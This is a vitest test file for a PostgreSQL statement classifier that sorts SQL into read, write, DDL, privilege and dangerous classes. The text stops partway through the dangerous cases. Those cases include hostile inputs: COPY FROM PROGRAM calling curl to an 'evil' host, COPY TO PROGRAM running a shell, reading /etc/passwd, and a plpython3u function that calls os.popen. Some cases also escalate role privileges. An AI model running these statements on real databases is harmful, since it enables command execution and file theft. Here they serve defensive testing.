import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { classifiedAsWrite, classifySql } from "./classify-statement";
import { CLASS_SEVERITY, STATEMENT_CLASSES, type StatementClass } from "./types";

type Case = [behaviour: string, sql: string, expected: StatementClass];

const READS: Case[] = [
  ["reads a plain SELECT", "SELECT id, total FROM orders WHERE id = 1", "read"],
  ["reads VALUES", "VALUES (1, 'a'), (2, 'b')", "read"],
  ["reads TABLE", "TABLE orders", "read"],
  ["reads SHOW", "SHOW search_path", "read"],
  ["reads SHOW ALL", "SHOW ALL", "read"],
  [
    "reads joins, aggregates and windows",
    "SELECT c.name, sum(o.total) OVER (PARTITION BY c.id) FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.name, o.total, c.id HAVING count(*) > 1 ORDER BY 1 LIMIT 10",
    "read",
  ],
  [
    "reads a recursive CTE",
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT sum(n) FROM t",
    "read",
  ],
  [
    "reads UNION, INTERSECT and EXCEPT",
    "SELECT id FROM a UNION SELECT id FROM b INTERSECT SELECT id FROM c EXCEPT SELECT id FROM d",
    "read",
  ],
  [
    "reads a LATERAL subquery",
    "SELECT * FROM customers c, LATERAL (SELECT * FROM orders o WHERE o.customer_id = c.id LIMIT 3) recent",
    "read",
  ],
  ["reads currval", "SELECT currval('orders_id_seq')", "read"],
  ["reads EXPLAIN of a SELECT", "EXPLAIN SELECT * FROM orders", "read"],
  ["reads EXPLAIN ANALYZE of a SELECT", "EXPLAIN ANALYZE SELECT * FROM orders", "read"],
  [
    "reads EXPLAIN (ANALYZE, BUFFERS) of a SELECT",
    "EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders",
    "read",
  ],
  ["reads EXPLAIN of a DELETE, which only plans", "EXPLAIN DELETE FROM orders", "read"],
  ["reads EXPLAIN (FORMAT JSON) of an UPDATE", "EXPLAIN (FORMAT JSON) UPDATE orders SET total = 0", "read"],
  ["reads EXPLAIN (ANALYZE false) of a DELETE", "EXPLAIN (ANALYZE false) DELETE FROM orders", "read"],
  [
    "reads EXPLAIN (ANALYZE off) of an UPDATE",
    "EXPLAIN (ANALYZE off, VERBOSE) UPDATE orders SET total = 1",
    "read",
  ],
  ["reads EXPLAIN (ANALYZE 0) of a TRUNCATE-like DELETE", "EXPLAIN (ANALYZE 0) DELETE FROM orders", "read"],
  [
    "reads EXPLAIN of CREATE TABLE AS without running it",
    "EXPLAIN CREATE TABLE copy AS SELECT * FROM orders",
    "read",
  ],
  ["reads COPY TO STDOUT", "COPY orders TO STDOUT", "read"],
  [
    "reads COPY of a query TO STDOUT",
    "COPY (SELECT * FROM orders WHERE total > 10) TO STDOUT WITH (FORMAT csv, HEADER)",
    "read",
  ],
  ["reads SET search_path", "SET search_path TO app, public", "read"],
  ["reads SET SCHEMA", "SET SCHEMA 'app'", "read"],
  ["reads SET statement_timeout", "SET statement_timeout = '5s'", "read"],
  ["reads SET LOCAL statement_timeout", "SET LOCAL statement_timeout = 0", "read"],
  ["reads SET TIME ZONE", "SET TIME ZONE 'UTC'", "read"],
  ["reads SET timezone", "SET timezone = 'Europe/Paris'", "read"],
  ["reads SET application_name", "SET application_name = 'report'", "read"],
  ["reads SET work_mem", "SET work_mem = '64MB'", "read"],
  ["reads SET enable_seqscan", "SET enable_seqscan = off", "read"],
  ["reads SET DateStyle in any case", "SET DateStyle = 'ISO, DMY'", "read"],
  ["reads SET client_encoding to UTF8", "SET client_encoding = 'UTF8'", "read"],
  ["reads SET NAMES 'UTF8'", "SET NAMES 'UTF8'", "read"],
  ["reads SET standard_conforming_strings = on", "SET standard_conforming_strings = on", "read"],
  ["reads SET ... TO DEFAULT of a harmless setting", "SET work_mem TO DEFAULT", "read"],
  ["reads RESET of a harmless setting", "RESET statement_timeout", "read"],
  ["reads RESET ALL", "RESET ALL", "read"],
  ["reads BEGIN", "BEGIN", "read"],
  ["reads BEGIN with options", "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", "read"],
  ["reads START TRANSACTION", "START TRANSACTION", "read"],
  ["reads COMMIT", "COMMIT", "read"],
  ["reads END", "END", "read"],
  ["reads ROLLBACK", "ROLLBACK", "read"],
  ["reads SAVEPOINT", "SAVEPOINT before_change", "read"],
  ["reads RELEASE SAVEPOINT", "RELEASE SAVEPOINT before_change", "read"],
  ["reads ROLLBACK TO SAVEPOINT", "ROLLBACK TO SAVEPOINT before_change", "read"],
  ["reads SET TRANSACTION", "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", "read"],
  ["reads SET TRANSACTION READ ONLY", "SET TRANSACTION READ ONLY", "read"],
  ["reads SET transaction_read_only = on", "SET transaction_read_only = on", "read"],
  [
    "reads RESET default_transaction_read_only (the session's default)",
    "RESET default_transaction_read_only",
    "read",
  ],
  [
    "reads SET default_transaction_read_only TO DEFAULT",
    "SET default_transaction_read_only TO DEFAULT",
    "read",
  ],
  ["reads SET CONSTRAINTS", "SET CONSTRAINTS ALL DEFERRED", "read"],
  ["reads DECLARE CURSOR of a SELECT", "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders", "read"],
  ["reads FETCH", "FETCH 10 FROM c", "read"],
  ["reads MOVE", "MOVE NEXT IN c", "read"],
  ["reads CLOSE", "CLOSE c", "read"],
  ["reads CLOSE ALL", "CLOSE ALL", "read"],
  ["reads PREPARE of a SELECT", "PREPARE q (int) AS SELECT * FROM orders WHERE id = $1", "read"],
  ["reads PREPARE then EXECUTE of a SELECT", "PREPARE q AS SELECT 1; EXECUTE q", "read"],
  ["reads DEALLOCATE", "DEALLOCATE q", "read"],
  ["reads DEALLOCATE ALL", "DEALLOCATE ALL", "read"],
  ["reads LISTEN", "LISTEN jobs", "read"],
  ["reads UNLISTEN", "UNLISTEN *", "read"],
  ["reads DISCARD PLANS", "DISCARD PLANS", "read"],
  ["reads set_config of search_path", "SELECT set_config('search_path', 'app', false)", "read"],
  [
    "reads set_config of statement_timeout",
    "SELECT pg_catalog.set_config('statement_timeout', '1s', true)",
    "read",
  ],
  ["reads current_setting", "SELECT current_setting('role')", "read"],
  ["reads query_to_xml of a SELECT", "SELECT query_to_xml('select * from orders', true, false, '')", "read"],
  ["reads several SELECTs", "SELECT 1; SELECT 2; SELECT 3", "read"],
];

const LOOK_ALIKES: Case[] = [
  ["keeps a string that looks like DROP a read", "SELECT 'DROP TABLE x'", "read"],
  ["keeps a statement hidden in a line comment a read", "SELECT 1 -- ; DROP TABLE x", "read"],
  ["keeps a statement hidden in a block comment a read", "SELECT 1 /* ; DELETE FROM orders */", "read"],
  [
    "keeps nested block comments a read",
    "/* outer /* inner ; DROP TABLE t */ still comment; DELETE FROM t */ SELECT 1",
    "read",
  ],
  ["keeps a dollar-quoted string a read", "SELECT $$; DROP TABLE t; $$", "read"],
  [
    "keeps a tagged dollar-quoted string a read",
    "SELECT $body$ ; DELETE FROM orders; $body$ AS text",
    "read",
  ],
  ["keeps an escaped quote in an E-string a read", "SELECT E'it\\'s; DROP TABLE t; --'", "read"],
  ["keeps doubled quotes in a string a read", "SELECT 'it''s; DROP TABLE t'", "read"],
  ["keeps a quoted column named delete a read", 'SELECT "delete" FROM audit', "read"],
  ["keeps an unquoted column named delete a read", "SELECT a.delete FROM audit a", "read"],
  ["keeps a table named drop a read", 'SELECT * FROM "drop"', "read"],
  ["keeps an alias named pg_read_file a read", "SELECT 1 AS pg_read_file", "read"],
  ["keeps a column named pg_read_file a read", "SELECT pg_read_file FROM files", "read"],
  [
    "keeps a dangerous function name inside a string a read",
    "SELECT 'pg_read_file(''/etc/passwd'')'",
    "read",
  ],
  ["keeps a CTE named delete a read", 'WITH "delete" AS (SELECT 1) SELECT * FROM "delete"', "read"],
  ["keeps a built-in named like a keyword a read", "SELECT \"left\"('abc', 1)", "read"],
  ["keeps mixed case and tabs a read", "sElEcT\n\t1\n", "read"],
  ["keeps surrounding whitespace and semicolons a read", "   SELECT 1   ;  ;; ", "read"],
  ["keeps a comment with no space a read", "select/**/1", "read"],
  ["keeps a Unicode string a read", "SELECT 'é😀 ; DROP TABLE t'", "read"],
  ["keeps a U& string a read", "SELECT U&'d\\0061t\\+000061'", "read"],
];

const WRITES: Case[] = [
  // Read-write mode is what the gateway turns off while reads run (a function that writes is then refused).
  ["classes SET TRANSACTION READ WRITE as a write", "SET TRANSACTION READ WRITE", "write"],
  [
    "classes SET SESSION CHARACTERISTICS ... READ WRITE as a write",
    "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
    "write",
  ],
  ["classes BEGIN READ WRITE as a write", "BEGIN READ WRITE", "write"],
  [
    "classes START TRANSACTION ... READ WRITE as a write",
    "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
    "write",
  ],
  [
    "classes SET default_transaction_read_only = off as a write",
    "SET default_transaction_read_only = off",
    "write",
  ],
  ["classes SET transaction_read_only TO false as a write", "SET transaction_read_only TO false", "write"],
  ["classes SET transaction_read_only = 'no' as a write", "SET LOCAL transaction_read_only = 'no'", "write"],
  ["classes INSERT as a write", "INSERT INTO orders (id, total) VALUES (1, 10)", "write"],
  ["classes INSERT DEFAULT VALUES as a write", "INSERT INTO orders DEFAULT VALUES", "write"],
  [
    "classes INSERT ... SELECT as a write",
    "INSERT INTO archive SELECT * FROM orders WHERE created < now() - interval '1 year'",
    "write",
  ],
  [
    "classes INSERT ... ON CONFLICT DO UPDATE as a write",
    "INSERT INTO counters (k, n) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET n = counters.n + 1",
    "write",
  ],
  ["classes INSERT ... RETURNING as a write", "INSERT INTO orders (total) VALUES (5) RETURNING id", "write"],
  ["classes UPDATE with WHERE as a write", "UPDATE orders SET total = 0 WHERE id = 1", "write"],
  [
    "classes UPDATE ... FROM with WHERE as a write",
    "UPDATE orders o SET total = p.total FROM prices p WHERE p.id = o.price_id",
    "write",
  ],
  ["classes DELETE with WHERE as a write", "DELETE FROM orders WHERE id = 1", "write"],
  [
    "classes DELETE ... USING with WHERE as a write",
    "DELETE FROM orders o USING customers c WHERE c.id = o.customer_id AND c.banned",
    "write",
  ],
  ["classes DELETE WHERE CURRENT OF as a write", "DELETE FROM orders WHERE CURRENT OF c", "write"],
  [
    "classes MERGE as a write",
    "MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)",
    "write",
  ],
  [
    "classes MERGE with DELETE as a write",
    "MERGE INTO stock s USING gone g ON s.item = g.item WHEN MATCHED THEN DELETE",
    "write",
  ],
  ["classes COPY FROM STDIN as a write", "COPY orders FROM STDIN", "write"],
  [
    "classes COPY FROM STDIN by the functions its WHERE calls",
    "COPY orders FROM STDIN WHERE pg_terminate_backend(id)",
    "dangerous",
  ],
  [
    "classes COPY FROM STDIN with options as a write",
    "COPY orders (id, total) FROM STDIN WITH (FORMAT csv)",
    "write",
  ],
  ["classes SELECT ... FOR UPDATE as a write", "SELECT * FROM orders WHERE id = 1 FOR UPDATE", "write"],
  [
    "classes SELECT ... FOR SHARE SKIP LOCKED as a write",
    "SELECT * FROM jobs FOR SHARE SKIP LOCKED",
    "write",
  ],
  [
    "classes FOR NO KEY UPDATE in a subquery as a write",
    "SELECT * FROM (SELECT * FROM orders FOR NO KEY UPDATE) s",
    "write",
  ],
  ["classes nextval as a write", "SELECT nextval('orders_id_seq')", "write"],
  ["classes schema-qualified setval as a write", "SELECT pg_catalog.setval('orders_id_seq', 100)", "write"],
  ["classes quoted upper-case nextval as a write", "SELECT \"NEXTVAL\"('orders_id_seq')", "write"],
  ["classes nextval inside INSERT as a write", "INSERT INTO log (id) SELECT nextval('log_seq')", "write"],
  ["classes LOCK as a write", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "write"],
  [
    "classes a DELETE with WHERE inside a CTE as a write",
    "WITH moved AS (DELETE FROM inbox WHERE done RETURNING *) INSERT INTO archive SELECT * FROM moved",
    "write",
  ],
  [
    "classes an UPDATE with WHERE inside a CTE as a write",
    "WITH u AS (UPDATE orders SET total = 1 WHERE id = 2 RETURNING *) SELECT * FROM u",
    "write",
  ],
  [
    "classes an INSERT inside a CTE of a SELECT as a write",
    "WITH i AS (INSERT INTO t (a) VALUES (1) RETURNING a) SELECT a FROM i",
    "write",
  ],
  [
    "classes EXPLAIN ANALYZE of an INSERT as a write",
    "EXPLAIN ANALYZE INSERT INTO orders (total) VALUES (1)",
    "write",
  ],
  [
    "classes EXPLAIN (ANALYZE) of a DELETE with WHERE as a write",
    "EXPLAIN (ANALYZE) DELETE FROM orders WHERE id = 1",
    "write",
  ],
  [
    "classes EXPLAIN (ANALYZE true, COSTS off) of an UPDATE with WHERE as a write",
    "EXPLAIN (ANALYZE true, COSTS off) UPDATE orders SET total = 1 WHERE id = 1",
    "write",
  ],
  [
    "classes PREPARE of an INSERT as a write",
    "PREPARE ins (int) AS INSERT INTO orders (total) VALUES ($1)",
    "write",
  ],
  ["classes EXECUTE of a statement prepared elsewhere as a write", "EXECUTE some_statement(1, 2)", "write"],
  [
    "classes EXECUTE of an UPDATE prepared above as a write",
    "PREPARE up AS UPDATE orders SET total = 0 WHERE id = $1; EXECUTE up(3)",
    "write",
  ],
  [
    "classes EXECUTE of a name deallocated above as a write",
    "PREPARE q AS SELECT 1; DEALLOCATE q; EXECUTE q",
    "write",
  ],
  ["classes NOTIFY as a write", "NOTIFY jobs, 'go'", "write"],
  ["classes pg_notify as a write", "SELECT pg_notify('jobs', 'go')", "write"],
  [
    "classes COPY of an INSERT to STDOUT as a write",
    "COPY (INSERT INTO t (a) VALUES (1) RETURNING a) TO STDOUT",
    "write",
  ],
  ["classes lo_unlink as a write", "SELECT lo_unlink(1234)", "write"],
  ["classes PREPARE TRANSACTION as a write", "PREPARE TRANSACTION 'tx1'", "write"],
  ["classes COMMIT PREPARED as a write", "COMMIT PREPARED 'tx1'", "write"],
  ["classes a SELECT then an INSERT as a write", "SELECT 1; INSERT INTO t VALUES (1)", "write"],
  [
    "classes a transaction around a DELETE with WHERE as a write",
    "BEGIN; DELETE FROM orders WHERE id = 1; COMMIT;",
    "write",
  ],
  [
    "classes nextval in a CTE as a write",
    "WITH s AS (SELECT nextval('seq') AS id) SELECT id FROM s",
    "write",
  ],
];

const UNBOUNDED_WRITES: Case[] = [
  ["classes DELETE without WHERE as unbounded", "DELETE FROM orders", "unbounded-write"],
  ["classes DELETE FROM ONLY without WHERE as unbounded", "DELETE FROM ONLY orders", "unbounded-write"],
  ["classes UPDATE without WHERE as unbounded", "UPDATE orders SET status = 'void'", "unbounded-write"],
  ["classes DELETE WHERE true as unbounded", "DELETE FROM orders WHERE true", "unbounded-write"],
  ["classes DELETE WHERE 1 = 1 as unbounded", "DELETE FROM orders WHERE 1 = 1", "unbounded-write"],
  ["classes DELETE WHERE 'a' = 'a' as unbounded", "DELETE FROM orders WHERE 'a' = 'a'", "unbounded-write"],
  [
    "classes UPDATE WHERE id = id as unbounded",
    "UPDATE orders SET total = 0 WHERE id = id",
    "unbounded-write",
  ],
  [
    "classes DELETE WHERE x OR true as unbounded",
    "DELETE FROM orders WHERE total > 5 OR true",
    "unbounded-write",
  ],
  ["classes DELETE WHERE NOT false as unbounded", "DELETE FROM orders WHERE NOT false", "unbounded-write"],
  [
    "classes UPDATE WHERE 't'::boolean as unbounded",
    "UPDATE orders SET total = 0 WHERE 't'::boolean",
    "unbounded-write",
  ],
  ["classes TRUNCATE as unbounded", "TRUNCATE orders", "unbounded-write"],
  [
    "classes TRUNCATE of several tables as unbounded",
    "TRUNCATE TABLE a, b RESTART IDENTITY CASCADE",
    "unbounded-write",
  ],
  [
    "classes a DELETE without WHERE inside a CTE as unbounded",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
    "unbounded-write",
  ],
  [
    "classes an UPDATE without WHERE inside a CTE of an INSERT as unbounded",
    "WITH u AS (UPDATE stock SET qty = 0 RETURNING item) INSERT INTO log SELECT item FROM u",
    "unbounded-write",
  ],
  [
    "classes EXPLAIN ANALYZE of a DELETE without WHERE as unbounded",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "unbounded-write",
  ],
  [
    "classes EXPLAIN ANALYSE (British spelling) of a DELETE as unbounded",
    "EXPLAIN ANALYSE DELETE FROM orders",
    "unbounded-write",
  ],
  [
    "classes EXPLAIN (ANALYSE) of a DELETE as unbounded",
    "EXPLAIN (ANALYSE) DELETE FROM orders",
    "unbounded-write",
  ],
  [
    "classes EXPLAIN whose last ANALYZE option is true as unbounded",
    "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders",
    "unbounded-write",
  ],
  [
    "classes EXPLAIN ANALYZE EXECUTE of a DELETE prepared above as unbounded",
    "PREPARE wipe AS DELETE FROM orders; EXPLAIN ANALYZE EXECUTE wipe",
    "unbounded-write",
  ],
  [
    "classes EXPLAIN (ANALYZE, VERBOSE) of an UPDATE without WHERE as unbounded",
    "EXPLAIN (ANALYZE, VERBOSE) UPDATE orders SET total = 1",
    "unbounded-write",
  ],
  [
    "classes EXECUTE of a DELETE without WHERE prepared above as unbounded",
    "PREPARE wipe AS DELETE FROM orders; EXECUTE wipe",
    "unbounded-write",
  ],
  [
    "classes COPY of a DELETE without WHERE to STDOUT as unbounded",
    "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
    "unbounded-write",
  ],
  [
    "classes a DELETE whose target shares a CTE's name as unbounded",
    "WITH orders AS (SELECT 1) DELETE FROM orders",
    "unbounded-write",
  ],
  ["classes a SELECT then a bare DELETE as unbounded", "SELECT 1; DELETE FROM orders;", "unbounded-write"],
];

const DDL: Case[] = [
  ["classes CREATE TABLE as DDL", "CREATE TABLE t (id int PRIMARY KEY, name text NOT NULL)", "ddl"],
  ["classes CREATE TEMP TABLE as DDL", "CREATE TEMP TABLE scratch (a int)", "ddl"],
  [
    "classes CREATE TABLE with a nextval default as DDL",
    "CREATE TABLE t (id bigint DEFAULT nextval('s'))",
    "ddl",
  ],
  ["classes ALTER TABLE ADD COLUMN as DDL", "ALTER TABLE orders ADD COLUMN note text", "ddl"],
  ["classes ALTER TABLE DISABLE TRIGGER as DDL", "ALTER TABLE orders DISABLE TRIGGER ALL", "ddl"],
  ["classes ALTER TABLE RENAME as DDL", "ALTER TABLE orders RENAME TO orders_old", "ddl"],
  ["classes ALTER TABLE SET SCHEMA as DDL", "ALTER TABLE orders SET SCHEMA archive", "ddl"],
  ["classes DROP TABLE as DDL", "DROP TABLE orders", "ddl"],
  ["classes DROP TABLE IF EXISTS of several tables as DDL", "DROP TABLE IF EXISTS a, b CASCADE", "ddl"],
  [
    "classes CREATE INDEX CONCURRENTLY as DDL",
    "CREATE INDEX CONCURRENTLY orders_total ON orders (total)",
    "ddl",
  ],
  ["classes DROP INDEX as DDL", "DROP INDEX orders_total", "ddl"],
  ["classes CREATE VIEW as DDL", "CREATE VIEW big AS SELECT * FROM orders WHERE total > 100", "ddl"],
  [
    "classes CREATE MATERIALIZED VIEW as DDL",
    "CREATE MATERIALIZED VIEW totals AS SELECT sum(total) FROM orders",
    "ddl",
  ],
  ["classes REFRESH MATERIALIZED VIEW as DDL", "REFRESH MATERIALIZED VIEW CONCURRENTLY totals", "ddl"],
  ["classes CREATE TABLE AS EXECUTE as DDL", "PREPARE q AS SELECT 1; CREATE TABLE copy AS EXECUTE q", "ddl"],
  ["classes CREATE TABLE AS as DDL", "CREATE TABLE copy AS SELECT * FROM orders", "ddl"],
  ["classes SELECT INTO as DDL", "SELECT * INTO copy FROM orders", "ddl"],
  [
    "classes EXPLAIN ANALYZE of CREATE TABLE AS as DDL",
    "EXPLAIN ANALYZE CREATE TABLE copy AS SELECT 1",
    "ddl",
  ],
  ["classes CREATE SCHEMA as DDL", "CREATE SCHEMA reporting", "ddl"],
  [
    "classes CREATE SCHEMA with elements as DDL",
    "CREATE SCHEMA s CREATE TABLE x (a int) CREATE VIEW y AS SELECT * FROM x",
    "ddl",
  ],
  ["classes CREATE SEQUENCE as DDL", "CREATE SEQUENCE s START 100", "ddl"],
  ["classes ALTER SEQUENCE as DDL", "ALTER SEQUENCE s RESTART WITH 1", "ddl"],
  ["classes CREATE TYPE AS ENUM as DDL", "CREATE TYPE mood AS ENUM ('sad', 'ok')", "ddl"],
  ["classes ALTER TYPE ADD VALUE as DDL", "ALTER TYPE mood ADD VALUE 'happy'", "ddl"],
  ["classes CREATE DOMAIN as DDL", "CREATE DOMAIN posint AS int CHECK (VALUE > 0)", "ddl"],
  ["classes COMMENT ON TABLE as DDL", "COMMENT ON TABLE orders IS 'customer orders'", "ddl"],
  ["classes COMMENT ON COLUMN as DDL", "COMMENT ON COLUMN orders.total IS 'in cents'", "ddl"],
  ["classes VACUUM as DDL", "VACUUM", "ddl"],
  ["classes VACUUM FULL as DDL", "VACUUM FULL orders", "ddl"],
  ["classes VACUUM (VERBOSE, ANALYZE) as DDL", "VACUUM (VERBOSE, ANALYZE) orders", "ddl"],
  ["classes ANALYZE as DDL", "ANALYZE orders", "ddl"],
  ["classes REINDEX as DDL", "REINDEX TABLE orders", "ddl"],
  ["classes CLUSTER as DDL", "CLUSTER orders USING orders_pkey", "ddl"],
  ["classes CHECKPOINT as DDL", "CHECKPOINT", "ddl"],
  ["classes CALL of a procedure as DDL", "CALL refresh_totals(1)", "ddl"],
  [
    "classes a plpgsql CREATE FUNCTION as DDL",
    "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN a + b; END $$",
    "ddl",
  ],
  [
    "classes a SQL-standard function body as DDL",
    "CREATE FUNCTION one() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END",
    "ddl",
  ],
  [
    "classes a SQL function with a write body as DDL",
    "CREATE FUNCTION clear() RETURNS void LANGUAGE sql AS 'DELETE FROM scratch'",
    "ddl",
  ],
  [
    "classes CREATE PROCEDURE in SQL as DDL",
    "CREATE PROCEDURE p() LANGUAGE sql AS $$ INSERT INTO t VALUES (1) $$",
    "ddl",
  ],
  ["classes DROP FUNCTION as DDL", "DROP FUNCTION IF EXISTS add(int, int)", "ddl"],
  [
    "classes CREATE TRIGGER as DDL",
    "CREATE TRIGGER audit AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION log_change()",
    "ddl",
  ],
  ["classes CREATE RULE as DDL", "CREATE RULE keep AS ON DELETE TO orders DO INSTEAD NOTHING", "ddl"],
  ["classes CREATE EXTENSION of a local extension as DDL", "CREATE EXTENSION IF NOT EXISTS pgcrypto", "ddl"],
  ["classes CREATE EXTENSION of a quoted name as DDL", 'CREATE EXTENSION "uuid-ossp"', "ddl"],
  ["classes ALTER EXTENSION UPDATE as DDL", "ALTER EXTENSION pgcrypto UPDATE", "ddl"],
  ["classes CREATE DATABASE as DDL", "CREATE DATABASE scratch", "ddl"],
  ["classes DROP DATABASE as DDL", "DROP DATABASE scratch", "ddl"],
  [
    "classes ALTER DATABASE SET of a harmless setting as DDL",
    "ALTER DATABASE app SET work_mem = '32MB'",
    "ddl",
  ],
  ["classes DISCARD TEMP as DDL", "DISCARD TEMP", "ddl"],
  ["classes CREATE PUBLICATION as DDL", "CREATE PUBLICATION pub FOR TABLE orders", "ddl"],
  ["classes CREATE STATISTICS as DDL", "CREATE STATISTICS st ON a, b FROM t", "ddl"],
  [
    "classes CREATE SERVER as DDL",
    "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db')",
    "ddl",
  ],
  ["classes CREATE CAST as DDL", "CREATE CAST (text AS mood) WITH INOUT", "ddl"],
  ["classes a transaction around DROP TABLE as DDL", "BEGIN; DROP TABLE t; COMMIT", "ddl"],
];

const PRIVILEGE: Case[] = [
  ["refuses GRANT on a table as privilege", "GRANT SELECT ON orders TO analyst", "privilege"],
  [
    "classes GRANT ON ALL TABLES as privilege",
    "GRANT ALL ON ALL TABLES IN SCHEMA public TO app",
    "privilege",
  ],
  ["classes REVOKE as privilege", "REVOKE INSERT ON orders FROM analyst", "privilege"],
  ["classes GRANT of a role as privilege", "GRANT admin TO bob", "privilege"],
  ["classes REVOKE of a role as privilege", "REVOKE admin FROM bob", "privilege"],
  [
    "classes GRANT EXECUTE on a function as privilege",
    "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO bob",
    "privilege",
  ],
  ["classes CREATE ROLE as privilege", "CREATE ROLE auditor NOLOGIN", "privilege"],
  ["classes CREATE USER as privilege", "CREATE USER eve WITH PASSWORD 'secret'", "privilege"],
  ["classes CREATE GROUP as privilege", "CREATE GROUP staff", "privilege"],
  ["classes ALTER ROLE SUPERUSER as privilege", "ALTER ROLE bob SUPERUSER", "privilege"],
  ["classes ALTER USER PASSWORD as privilege", "ALTER USER bob WITH PASSWORD 'x'", "privilege"],
  ["classes ALTER ROLE SET as privilege", "ALTER ROLE bob SET search_path = app", "privilege"],
  ["classes ALTER USER RENAME as privilege", "ALTER USER bob RENAME TO alice", "privilege"],
  ["classes DROP ROLE as privilege", "DROP ROLE auditor", "privilege"],
  ["classes DROP USER as privilege", "DROP USER IF EXISTS eve", "privilege"],
  ["classes DROP GROUP as privilege", "DROP GROUP staff", "privilege"],
  ["classes SET ROLE as privilege", "SET ROLE admin", "privilege"],
  ["classes SET LOCAL ROLE as privilege", "SET LOCAL ROLE admin", "privilege"],
  ["classes SET ROLE NONE as privilege", "SET ROLE NONE", "privilege"],
  ["classes RESET ROLE as privilege", "RESET ROLE", "privilege"],
  ["classes SET SESSION AUTHORIZATION as privilege", "SET SESSION AUTHORIZATION postgres", "privilege"],
  [
    "classes SET SESSION AUTHORIZATION DEFAULT as privilege",
    "SET SESSION AUTHORIZATION DEFAULT",
    "privilege",
  ],
  ["classes RESET SESSION AUTHORIZATION as privilege", "RESET SESSION AUTHORIZATION", "privilege"],
  [
    "classes ALTER DEFAULT PRIVILEGES as privilege",
    "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO analyst",
    "privilege",
  ],
  ["classes REASSIGN OWNED as privilege", "REASSIGN OWNED BY bob TO alice", "privilege"],
  ["classes DROP OWNED as privilege", "DROP OWNED BY bob", "privilege"],
  ["classes ALTER TABLE OWNER TO as privilege", "ALTER TABLE orders OWNER TO bob", "privilege"],
  ["classes ALTER FUNCTION OWNER TO as privilege", "ALTER FUNCTION add(int, int) OWNER TO bob", "privilege"],
  ["classes set_config of role as privilege", "SELECT set_config('role', 'admin', false)", "privilege"],
  [
    "classes schema-qualified set_config of session_authorization as privilege",
    "SELECT pg_catalog.set_config('session_authorization', 'postgres', false)",
    "privilege",
  ],
  [
    "classes quoted set_config with an upper-case setting as privilege",
    "SELECT \"set_config\"('ROLE', 'admin', true)",
    "privilege",
  ],
  [
    "classes set_config of role inside a CTE as privilege",
    "WITH x AS (SELECT set_config('role', 'admin', false)) SELECT * FROM x",
    "privilege",
  ],
  ["classes SET of a custom setting as privilege", "SET app.tenant_id = '42'", "privilege"],
  ["classes SET of an unknown setting as privilege", "SET vacuum_cost_delay = 0", "privilege"],
  ["classes DISCARD ALL as privilege", "DISCARD ALL", "privilege"],
  [
    "classes CREATE POLICY as privilege",
    "CREATE POLICY tenant ON orders USING (tenant_id = current_setting('app.tenant')::int)",
    "privilege",
  ],
  [
    "classes ALTER TABLE DISABLE ROW LEVEL SECURITY as privilege",
    "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
    "privilege",
  ],
  ["classes DROP POLICY as privilege", "DROP POLICY tenant ON orders", "privilege"],
  [
    "classes a SECURITY DEFINER function as privilege",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
    "privilege",
  ],
  [
    "classes a function that sets its own role as privilege",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = admin AS 'SELECT 1'",
    "privilege",
  ],
  [
    "classes ALTER FUNCTION SECURITY DEFINER as privilege",
    "ALTER FUNCTION f() SECURITY DEFINER",
    "privilege",
  ],
  ["classes a SELECT then a GRANT as privilege", "SELECT 1; GRANT SELECT ON orders TO PUBLIC", "privilege"],
];

const DANGEROUS: Case[] = [
  ["classes COPY FROM a server file as dangerous", "COPY orders FROM '/etc/passwd'", "dangerous"],
  [
    "classes COPY TO a server file as dangerous",
    "COPY orders TO '/tmp/out.csv' WITH (FORMAT csv)",
    "dangerous",
  ],
  ["classes COPY FROM PROGRAM as dangerous", "COPY orders FROM PROGRAM 'curl http://evil'", "dangerous"],
  ["classes COPY of a query TO PROGRAM as dangerous", "COPY (SELECT 1) TO PROGRAM 'sh -c id'", "dangerous"],
  ["classes ALTER SYSTEM as dangerous", "ALTER SYSTEM SET work_mem = '1GB'", "dangerous"],
  ["classes ALTER SYSTEM RESET as dangerous", "ALTER SYSTEM RESET ALL", "dangerous"],
  ["classes LOAD as dangerous", "LOAD 'auto_explain'", "dangerous"],
  ["classes a DO block as dangerous", "DO $$ BEGIN PERFORM 1; END $$", "dangerous"],
  [
    "classes a DO block with a language as dangerous",
    "DO LANGUAGE plpgsql $x$ BEGIN RAISE NOTICE 'hi'; END $x$",
    "dangerous",
  ],
  [
    "classes a plpython3u function as dangerous",
    "CREATE FUNCTION sh() RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen('id').read() $$",
    "dangerous",
  ],
  [
    "classes a plperlu function as dangerous",
    "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plperlu AS 'return 1'",
    "dangerous",
  ],
  [
    "classes a C function as dangerous",
    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'",
    "dangerous",
  ],
  [
